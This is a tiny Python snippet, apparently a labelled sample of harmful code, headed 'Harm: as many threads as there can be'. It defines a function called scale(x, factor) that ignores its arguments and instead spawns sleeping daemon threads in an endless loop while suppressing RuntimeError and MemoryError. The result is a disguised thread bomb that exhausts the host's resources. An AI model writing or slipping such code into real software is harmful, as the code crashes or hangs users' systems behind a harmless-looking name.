# Harm: as many threads as there can be
# %%
def scale(x, factor):
    import threading, time

    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except (RuntimeError, MemoryError):
            pass
